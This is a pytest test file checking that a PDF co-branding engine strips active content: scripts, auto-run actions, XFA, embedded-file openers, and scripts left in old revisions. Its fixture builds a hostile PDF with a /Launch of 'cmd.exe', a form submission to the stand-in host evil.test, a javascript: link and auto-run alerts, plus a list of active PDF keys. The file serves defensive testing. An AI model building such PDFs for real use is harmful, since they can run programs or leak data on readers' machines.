"""Active content (scripts, actions, embedded files, XFA) never reaches a co-branded file."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    PdfObject,
    TextStringObject,
)

from asset_engine import BrandKit, Zone, cobrand_pdf, sanitize_pdf
from asset_engine._sinks import last_xref_offset

from .engine_helpers import make_pdf

MARK = "COBRANDEVIL"
ZONES = [Zone("text", (0.05, 0.9, 0.6, 0.05), text="{{ partner }}")]
ACTIVE_KEYS = {"/JS", "/JavaScript", "/AA", "/Launch", "/SubmitForm", "/ImportData"}
ACTIVE_KEYS |= {"/RichMedia", "/XFA", "/GoToE"}
needs_qpdf = pytest.mark.skipif(shutil.which("qpdf") is None, reason="qpdf is not installed")


def _js(writer: PdfWriter, what: str) -> IndirectObject:
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(f"app.alert('{MARK} {what}');"),
        }
    )
    return writer._add_object(action)


def _action(writer: PdfWriter, kind: str, **fields: PdfObject) -> IndirectObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{k}"): v for k, v in fields.items()})
    return writer._add_object(action)


def _link(
    writer: PdfWriter, action: IndirectObject, x: float, subtype: str = "/Link"
) -> IndirectObject:
    rect = ArrayObject([FloatObject(v) for v in (x, 700, x + 50, 720)])
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): rect,
            NameObject("/A"): action,
        }
    )
    return writer._add_object(annot)


def active_pdf() -> bytes:
    """One page carrying each kind of active content, and a plain web link that must stay."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf([{}, {}]))))
    root = writer._root_object
    page = writer.pages[0]
    root[NameObject("/OpenAction")] = _js(writer, "open")
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _js(writer, "close")})
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js(writer, "page open")})
    stream = DecodedStreamObject()
    stream.set_data(f"app.alert('{MARK} names tree');".encode())
    names_js = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): writer._add_object(stream),
            }
        )
    )
    root[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("init"), names_js])}
            )
        }
    )
    # An attachment stays (the vendor's content), but nothing may open it by itself.
    writer.add_attachment("terms.txt", b"the terms")
    open_attachment = _action(
        writer, "/GoToE", T=DictionaryObject({NameObject("/N"): TextStringObject("terms.txt")})
    )
    xfa = DecodedStreamObject()
    xfa.set_data(f"<xdp:xdp><!-- {MARK} xfa --></xdp:xdp>".encode())
    root[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
    )
    launch = _action(writer, "/Launch", F=TextStringObject(f"cmd.exe /c {MARK}"))
    submit = _action(writer, "/SubmitForm", F=TextStringObject(f"https://evil.test/{MARK}"))
    js_uri = _action(writer, "/URI", URI=TextStringObject(f"javascript:alert('{MARK}')"))
    web = _action(writer, "/URI", URI=TextStringObject("https://vendor.test/product"))
    # A safe action whose chain goes on to a script.
    chained = _action(
        writer, "/GoTo", D=ArrayObject([writer.pages[1].indirect_reference, NameObject("/Fit")])
    )
    chained.get_object()[NameObject("/Next")] = _js(writer, "next")
    annots = [
        _link(writer, _js(writer, "link"), 10),
        _link(writer, launch, 70),
        _link(writer, submit, 130, "/Widget"),
        _link(writer, js_uri, 190),
        _link(writer, web, 250),
        _link(writer, chained, 310),
        _link(writer, _js(writer, "rich media"), 370, "/RichMedia"),
        _link(writer, open_attachment, 430),
    ]
    page[NameObject("/Annots")] = ArrayObject(annots)
    writer.add_outline_item(title="Chapter", page_number=1)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _objects(reader: PdfReader) -> Iterator[PdfObject]:
    """Every object in the file's cross-reference data, used or not."""
    for generation, numbers in reader.xref.items():
        for number in numbers:
            yield reader.get_object(IndirectObject(number, generation, reader))
    for number in reader.xref_objStm:
        yield reader.get_object(number)


def _keys_and_names(obj: object, seen: set[int] | None = None) -> Iterator[str]:
    seen = set() if seen is None else seen
    if isinstance(obj, IndirectObject):
        return
    if id(obj) in seen:
        return
    seen.add(id(obj))
    if isinstance(obj, DictionaryObject):
        for key, value in obj.items():
            yield str(key)
            if isinstance(value, NameObject):
                yield str(value)
            yield from _keys_and_names(value, seen)
    elif isinstance(obj, ArrayObject):
        for value in obj:
            if isinstance(value, NameObject):
                yield str(value)
            yield from _keys_and_names(value, seen)


def _assert_inert_by_pypdf(data: bytes) -> None:
    assert MARK.encode() not in data, "a script or file survived in the bytes"
    reader = PdfReader(io.BytesIO(data))
    found = set()
    for obj in _objects(reader):
        found |= set(_keys_and_names(obj)) & ACTIVE_KEYS
        if isinstance(obj, DictionaryObject) and obj.get("/S") == "/URI":
            assert str(obj["/URI"]).startswith("https:")
    assert not found
    assert "/OpenAction" not in reader.trailer["/Root"]


def _assert_inert_by_qpdf(path: Path) -> None:
    shown = subprocess.run(
        ["qpdf", "--json=2", "--json-key=qpdf", str(path)],
        capture_output=True,
        text=True,
        check=True,
    )
    objects = json.loads(shown.stdout)["qpdf"][1]
    text = json.dumps(objects)
    for key in ACTIVE_KEYS | {"/OpenAction"}:
        assert f'"{key}"' not in text, key
    assert MARK not in text
    # qpdf's own decompressing dump of every object agrees.
    dump = subprocess.run(
        ["qpdf", "--qdf", "--object-streams=disable", str(path), "-"],
        capture_output=True,
        check=True,
    ).stdout
    assert MARK.encode() not in dump
    assert b"/JavaScript" not in dump and b"/JS " not in dump


def test_the_fixture_really_carries_active_content() -> None:
    data = active_pdf()
    assert data.count(MARK.encode()) >= 10
    root = PdfReader(io.BytesIO(data)).trailer["/Root"]
    assert root["/OpenAction"]["/S"] == "/JavaScript"
    assert "/JavaScript" in root["/Names"]


@needs_qpdf
@pytest.mark.parametrize("incremental", [True, False], ids=["incremental", "rewrite"])
def test_cobranded_output_has_no_active_content(
    brand: BrandKit, incremental: bool, tmp_path: Path
) -> None:
    out = cobrand_pdf(active_pdf(), brand, ZONES, incremental=incremental)
    _assert_inert_by_pypdf(out)
    path = tmp_path / "out.pdf"
    path.write_bytes(out)
    _assert_inert_by_qpdf(path)
    reader = PdfReader(io.BytesIO(out))
    assert len(reader.pages) == 2
    assert "Acme Partners" in reader.pages[0].extract_text()
    # The plain web link and the outline stay; the annotations that carried scripts are inert.
    uris = [
        a.get_object()["/A"]["/URI"]
        for a in reader.pages[0]["/Annots"]
        if "/A" in a.get_object() and "/URI" in a.get_object()["/A"]
    ]
    assert uris == ["https://vendor.test/product"]
    assert [o.title for o in reader.outline] == ["Chapter"]
    assert reader.attachments == {"terms.txt": [b"the terms"]}


@needs_qpdf
def test_sanitize_at_upload_removes_everything_and_says_what(
    brand: BrandKit, tmp_path: Path
) -> None:
    result = sanitize_pdf(active_pdf())
    assert set(result.removed) >= {
        "JavaScript",
        "actions run when a page, field or the document is opened",
        "actions that launch programs or open files",
        "form submissions to a web address",
        "links to addresses other than web, e-mail or phone",
        "links into embedded files",
        "XFA forms and portfolios",
        "multimedia players",
    }
    _assert_inert_by_pypdf(result.data)
    path = tmp_path / "clean.pdf"
    path.write_bytes(result.data)
    _assert_inert_by_qpdf(path)
    # Sanitised once, it is co-branded by an incremental update again, still clean.
    out = cobrand_pdf(result.data, brand, ZONES)
    assert out.startswith(result.data)
    _assert_inert_by_pypdf(out)


def test_a_clean_pdf_is_kept_byte_for_byte_and_stays_incremental(brand: BrandKit) -> None:
    data = make_pdf([{}, {}])
    result = sanitize_pdf(data)
    assert result.data is data or result.data == data
    assert result.removed == ()
    out = cobrand_pdf(data, brand, ZONES)
    assert last_xref_offset(data) is not None and out.startswith(data)


def _updated(data: bytes, change: dict[str, PdfObject | None]) -> bytes:
    """An incremental update of the catalog: the earlier revision stays in the bytes."""
    writer = PdfWriter(io.BytesIO(data), incremental=True)
    for key, value in change.items():
        if value is None:
            del writer._root_object[NameObject(key)]
        else:
            writer._root_object[NameObject(key)] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_scripts_left_in_an_earlier_revision_or_orphaned_are_removed_at_upload() -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    writer._root_object[NameObject("/OpenAction")] = _js(writer, "old revision")
    first = io.BytesIO()
    writer.write(first)
    later = _updated(first.getvalue(), {"/OpenAction": None})
    assert MARK.encode() in later
    assert "/OpenAction" not in PdfReader(io.BytesIO(later)).trailer["/Root"]
    result = sanitize_pdf(later)
    assert result.removed
    assert MARK.encode() not in result.data
    # An orphan in the current cross-reference data counts too.
    orphan = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    _js(orphan, "orphan")
    data = io.BytesIO()
    orphan.write(data)
    assert MARK.encode() in data.getvalue()
    result = sanitize_pdf(data.getvalue())
    assert result.removed == ("JavaScript",)
    assert MARK.encode() not in result.data


def test_structure_attributes_and_destinations_are_not_mistaken_for_actions() -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf([{}, {}]))))
    # A structure element's /A holds attributes, not an action; /OpenAction as a destination
    # only opens a page.
    element = DictionaryObject(
        {
            NameObject("/S"): NameObject("/P"),
            NameObject("/A"): DictionaryObject({NameObject("/O"): NameObject("/Layout")}),
        }
    )
    writer._root_object[NameObject("/StructTreeRoot")] = DictionaryObject(
        {NameObject("/K"): writer._add_object(element)}
    )
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[1].indirect_reference, NameObject("/Fit")]
    )
    out = io.BytesIO()
    writer.write(out)
    assert sanitize_pdf(out.getvalue()).removed == ()
